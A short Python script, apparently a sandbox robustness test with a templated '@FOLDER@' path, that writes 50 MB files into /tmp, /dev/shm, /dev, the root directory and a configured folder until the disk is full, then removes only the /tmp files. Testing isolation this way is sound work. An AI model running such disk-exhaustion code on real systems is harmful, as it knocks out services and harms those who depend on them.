# Writes until the disk is full, wherever it can.
# costs: nothing
# %% first
import itertools
import os

for folder in ("/tmp", "/dev/shm", "/dev", "/", "@FOLDER@"):
    try:
        for n in itertools.count():
            with open(f"{folder}/{n}", "wb") as file:
                file.write(bytes(50 << 20))
    except OSError:
        pass
for name in os.listdir("/tmp"):
    if name.isdecimal():
        os.unlink(f"/tmp/{name}")
